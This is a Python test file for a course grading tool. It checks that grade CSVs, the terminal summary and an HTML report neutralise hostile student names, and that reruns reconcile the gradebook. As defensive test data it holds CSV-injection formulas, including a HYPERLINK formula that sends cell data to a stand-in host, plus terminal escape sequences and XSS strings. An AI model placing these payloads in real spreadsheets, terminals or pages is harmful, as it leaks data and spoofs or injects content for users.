"""What `make grade` writes: CSVs, the terminal summary and report.html never carry a name raw.

Unit-level: rows are built by hand and handed to the report functions.
"""

from __future__ import annotations

import csv
import os
import unicodedata
from pathlib import Path

import pytest

from coursetools.grading import report

# Names a folder or file in SUBMITTED can have (the intake reports them in rows).
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULAS = [p + 'HYPERLINK("http://x.example/?"&A1,"click")' for p in FORMULA_PREFIXES] + ["=1+1", "-2+3", "@SUM(A1)"]
TERMINAL_TRICKS = {
    "clear-screen": "ann\x1b[2J\x1b[H",
    "retitle": "ann\x1b]0;pwned\x07",
    "c1-csi": "ann\x9b2J",
    "forged-line": "ann\nGraded 40 submission(s); 0 could not be graded.",
    "carriage-return": "ann\rGraded 40",
    "bidi-override": "ann\u202egnp.exe",
    "nul-and-del": "ann\x00\x7f",
    "undecodable-bytes": "ann\udcff\udcfe",  # os.listdir's surrogateescape for bytes that are not UTF-8
}


def _rows(names: list[str]) -> tuple[list[dict], list[dict]]:
    rows = [{"student": n, "lab": n, "score": 0, "max_score": "", "status": "error", "reason": n} for n in names]
    rows.append({"student": "bob", "lab": "01_backprop", "score": 3.0, "max_score": 19.0, "status": "graded",
                 "reason": ""})
    questions = [{"student": n, "lab": "01_backprop", "question": n, "score": 0.0, "max_score": 2.0,
                  "misconception": n} for n in names]
    return rows, questions


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_every_csv_field_is_neutralised(tmp_path):
    """OWASP's CSV-injection rule: no cell may start with = + - @ tab or CR, whatever field it is in."""
    names = FORMULAS + list(TERMINAL_TRICKS.values())
    rows, questions = _rows(names)
    report.write_csvs(tmp_path, rows, questions)
    for name in ("grades.csv", "grades_by_question.csv"):
        cells = _cells(tmp_path / name)
        assert len(cells) > len(names)
        bad = [c for c in cells if c[:1] in FORMULA_PREFIXES]
        assert not bad, f"{name}: {bad[:3]}"
        # Neutralised, not dropped: the name is still there after the quote.
        assert "'" + FORMULAS[0] in cells


@pytest.mark.parametrize("trick", sorted(TERMINAL_TRICKS))
def test_terminal_summary_carries_no_control_characters(trick):
    name = TERMINAL_TRICKS[trick]
    rows, questions = _rows([name])
    text = report.terminal(report.summarise(rows, questions))
    for line in text.split("\n"):
        odd = [ch for ch in line if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
        assert not odd, (trick, line)
    honest = report.terminal(report.summarise(*_rows(["ann"])))
    assert len(text.split("\n")) == len(honest.split("\n")), "a name added or removed a summary line"
    assert "ann" in text


def test_report_html_escapes_names(tmp_path):
    names = ["<script>alert(1)</script>", "a' onmouseover='x", '"><img src=x>'] + list(TERMINAL_TRICKS.values())
    rows, questions = _rows(names)
    report.write_html(tmp_path, rows, report.summarise(rows, questions))
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<img src=x>" not in page and "' onmouseover='" not in page
    assert "\x1b" not in page and "\x9b" not in page


# --- finding 6 (part): a rerun into an existing OUT reconciles everything with SUBMITTED as it is now ----

def _write_nb(path: Path, nb) -> None:
    import nbformat

    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def _junk_grade_id(nb):
    """A correct notebook whose grade cells carry grade_ids of odd types (a list, a dict, a number)."""
    from fixtures.notebooks import nbgrader_meta

    junk = iter([["check"], {"a": 1}, 7])
    for cell in nb.cells:
        meta = nbgrader_meta(cell)
        if meta.get("grade") and not meta.get("solution"):
            meta["grade_id"] = next(junk, None)
    return nb


def _gradebook(out: Path, lab: str) -> dict[str, float]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
        students = {s.id for s in gb.students}
        scores = {sub.student.id: float(sub.score) for sub in gb.assignment_submissions(lab)} \
            if lab in {a.name for a in gb.assignments} else {}
    return {"students": students, "scores": scores}


def test_rerun_reconciles_gradebook_feedback_and_csvs(tmp_path, capsys, monkeypatch):
    """Run 1 grades four students; run 2 sees bob withdrawn and carol's notebook broken.

    After run 2 neither keeps an old grade anywhere: not in grades.csv, the
    gradebook, feedback/ or nbgrader's submitted/ and autograded/ copies. dave's
    correct work with junk grade_ids on the grade cells scores what alice's does.
    In run 2 the disk "fills" as report.html is written (after the check at the
    start): the summary is still printed, and the command ends with one line.
    """
    import errno

    from coursetools.grading import cli
    from fixtures.hostile import LAB
    from fixtures.notebooks import submission

    submitted, out = tmp_path / "submitted", tmp_path / "out"
    # Without the lab's demonstration cells: a rerun's bookkeeping does not depend on them.
    for student in ("alice", "bob", "carol"):
        _write_nb(submitted / student / LAB / f"{LAB}.ipynb", submission(LAB, demos=False))
    _write_nb(submitted / "dave" / LAB / f"{LAB}.ipynb", _junk_grade_id(submission(LAB, demos=False)))
    args = [str(submitted), str(out), "--workers", "2", "--labs", LAB]

    assert cli.main(args) == 0
    first = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", newline="", encoding="utf-8"))}
    assert first["alice"]["status"] == "graded" and float(first["alice"]["score"]) > 0, first
    assert first["dave"]["status"] == "graded" and first["dave"]["score"] == first["alice"]["score"], first
    assert {"alice", "bob", "carol"} <= _gradebook(out, LAB)["students"]

    import shutil

    shutil.rmtree(submitted / "bob")
    (submitted / "carol" / LAB / f"{LAB}.ipynb").write_text('{"cells": [', encoding="utf-8")
    def disk_full(*_args, **_kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(report, "write_html", disk_full)
    capsys.readouterr()
    assert cli.main(args) == 2
    captured = capsys.readouterr()
    assert "carol/" in captured.out and "malformed notebook JSON" in captured.out, captured.out
    assert "Traceback" not in captured.err
    # The regrade says whose grade changed, and keeps run 1's files to compare with.
    assert "Since the previous run in this OUT: 2 grade(s) changed" in captured.out, captured.out
    assert f"bob {LAB}: {float(first['bob']['score']):g} -> not graded" in captured.out
    assert f"carol {LAB}: {float(first['carol']['score']):g} -> not graded" in captured.out
    assert "bob" in (out / "previous" / "grades.csv").read_text(encoding="utf-8")
    assert "No space left on device" in captured.err.strip().splitlines()[-1], captured.err
    second = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", newline="", encoding="utf-8"))}
    assert "bob" not in second and second["carol"]["status"] == "error", second
    book = _gradebook(out, LAB)
    assert book["students"] == {"alice", "dave"} and set(book["scores"]) == {"alice", "dave"}, book
    for folder in ("feedback", "submitted", "autograded", ".verdicts"):
        left = sorted(p.name for p in (out / folder).iterdir()) if (out / folder).is_dir() else []
        assert left == ["alice", "dave"], (folder, left)
    assert (out / "feedback" / "alice" / LAB / f"{LAB}.html").is_file()

